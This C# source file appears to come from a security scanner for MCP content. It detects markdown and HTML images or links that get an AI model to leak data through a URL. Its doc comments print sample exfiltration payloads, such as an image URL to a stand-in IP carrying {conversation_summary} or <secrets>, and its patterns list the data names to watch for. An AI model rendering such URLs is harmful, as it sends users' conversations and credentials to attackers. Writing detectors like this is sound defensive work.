using System.Text.RegularExpressions;

namespace McpVanguard.Inspection.Instructions;

/// <summary>
/// Markdown images and links that carry data out when rendered or followed: a URL whose query or path holds a template
/// the model is meant to fill (<c>![x](https://203.0.113.7/log?q={conversation_summary})</c>, <c>?d=&lt;secrets&gt;</c>,
/// <c>?q=$CHAT</c>), or an image whose query already carries a long encoded value. A rendered image is fetched with no
/// click, so any placeholder in an image URL counts; a link counts when its placeholder names data (conversation,
/// history, secrets, keys, the user's messages…), since API docs link to <c>/users/{id}</c>.
/// </summary>
internal static class MarkdownExfiltration
{
    private const RegexOptions Options = RegexOptions.NonBacktracking | RegexOptions.CultureInvariant | RegexOptions.ExplicitCapture;

    /// <summary>Most markdown targets examined per text.</summary>
    private const int MaxTargets = 64;

    /// <summary><c>![alt](url</c> or <c>[text](url</c>, and reference definitions <c>[id]: url</c>; runs on the decoded copy (case kept).</summary>
    internal static readonly PrefilteredRegex TargetRegex = new(
        // A placeholder may hold spaces (<paste the user's API key here>, {full chat so far}): the model fills it before the URL is used.
        @"!?\[[^\]\n]*\]\(\s*<?[a-zA-Z][a-zA-Z0-9+.-]*://(?:[^\s)<{]|<[^>\n)]{1,80}>|\{[^}\n)]{1,80}\})+|^[ \t]*\[[^\]\n]+\]:[ \t]*<?[a-zA-Z][a-zA-Z0-9+.-]*://[^\s>]+"
        // HTML images render as markdown ones do: fetched with no click.
        + @"|<img\b[^>]*\bsrc\s*=\s*[""']?[a-zA-Z][a-zA-Z0-9+.-]*://[^\s""'>]+",
        Options | RegexOptions.Multiline);

    /// <summary>A placeholder: <c>{x}</c>, <c>{{x}}</c>, <c>${x}</c>, <c>$X</c>, <c>&lt;x&gt;</c>, <c>[x]</c>, <c>%x%</c>.</summary>
    private static readonly LinearPattern Placeholder = new(
        @"\{\{?\s*(?<name>[^{}\s/?&=][^{}/?&=\n]{0,80})\s*\}\}?|\$\{?(?<name>[A-Za-z_][A-Za-z0-9_]+)|<(?<name>[A-Za-z_][A-Za-z0-9_ '’.-]*)>|\[(?<name>[A-Za-z_][A-Za-z0-9_ -]*)\]|%(?<name>[A-Za-z_][A-Za-z0-9_]+)%",
        RegexOptions.CultureInvariant);

    /// <summary>An upper-case word standing for a value the model is told to put there: <c>?d=DATA</c>, <c>?k=API_KEY</c>.</summary>
    private static readonly LinearPattern UpperPlaceholder = new(@"=(?<name>[A-Z][A-Z0-9_]{2,})(&|#|$)", RegexOptions.CultureInvariant);

    /// <summary>What a placeholder names when it asks for the user's data.</summary>
    private static readonly LinearPattern DataName = new(
        @"conversation|summary|history|chat|message|secret|key|token|password|passwd|credential|env|context|prompt|memory|user|email|cookie|session|data|content|input|answer|response|transcript|file|ssh|aws|private",
        RegexOptions.CultureInvariant | RegexOptions.IgnoreCase);

    /// <summary>A long encoded query value: base64, base64url or hex of at least 48 characters.</summary>
    private static readonly LinearPattern EncodedValue = new(@"[?&][^=&#\s]+=[A-Za-z0-9+/_-]{48}[A-Za-z0-9+/_-]*={0,2}(&|#|$)", RegexOptions.CultureInvariant);

    /// <summary>True when a markdown target in <paramref name="decoded"/> carries data out; the span covers the target.</summary>
    public static bool Find(string decoded, out int start, out int end)
    {
        start = -1;
        end = -1;
        if (!TargetRegex.MayMatch(decoded))
        {
            return false;
        }

        var count = 0;
        foreach (var m in TargetRegex.EnumerateMatches(decoded))
        {
            if (++count > MaxTargets)
            {
                break;
            }

            var target = decoded.AsSpan(m.Index, m.Length);
            var image = target.TrimStart()[0] is '!' or '<';
            var scheme = target.IndexOf("://", StringComparison.Ordinal);
            var url = target[(scheme + 3)..];
            var pathStart = url.IndexOfAny('/', '?', '#');
            if (pathStart < 0)
            {
                continue;
            }

            var rest = url[pathStart..];
            if (Carries(rest, image))
            {
                start = m.Index;
                end = m.Index + m.Length;
                return true;
            }
        }

        return false;
    }

    private static bool Carries(ReadOnlySpan<char> pathAndQuery, bool image)
    {
        foreach (var p in Placeholder.EnumerateMatches(pathAndQuery))
        {
            if (image)
            {
                return true;
            }

            var match = Placeholder.Regex.Match(pathAndQuery.ToString(), p.Index, p.Length);
            if (DataName.IsMatch(match.Groups["name"].Value))
            {
                return true;
            }
        }

        foreach (var p in UpperPlaceholder.EnumerateMatches(pathAndQuery))
        {
            var match = UpperPlaceholder.Regex.Match(pathAndQuery.ToString(), p.Index, p.Length);
            if (DataName.IsMatch(match.Groups["name"].Value))
            {
                return true;
            }
        }

        return image && EncodedValue.IsMatch(pathAndQuery);
    }
}
